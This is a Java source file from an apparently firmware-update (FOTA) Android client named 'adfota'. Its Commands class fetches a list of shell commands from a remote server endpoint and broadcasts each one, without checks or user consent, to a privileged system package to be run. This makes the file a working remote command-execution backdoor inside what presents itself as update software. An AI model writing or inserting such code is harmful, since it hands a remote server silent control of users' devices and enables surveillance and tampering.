package com.adfota.client;

import android.content.Context;
import android.content.Intent;
import android.util.Log;
import java.io.IOException;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Asks the server for shell commands ("sf": [...]) and hands them to the system package. */
final class Commands {
    private static final String RUN = "com.adfota.sysoper.WRITE_COMMAND";

    private Commands() {}

    static void fetchAndRun(Context context) throws IOException {
        String answer = Server.form("/ps/fetch.do", new JSONObject());
        try {
            JSONArray commands = new JSONObject(answer).optJSONArray("sf");
            for (int i = 0; commands != null && i < commands.length(); i++) {
                run(context, commands.getString(i));
            }
        } catch (JSONException noCommands) {
            Log.i("FotaCommands", "nothing to run");
        }
    }

    private static void run(Context context, String command) {
        Intent order = new Intent(RUN).setPackage("com.adfota.sysoper");
        context.sendBroadcast(order.putExtra("cmd", command));
    }
}
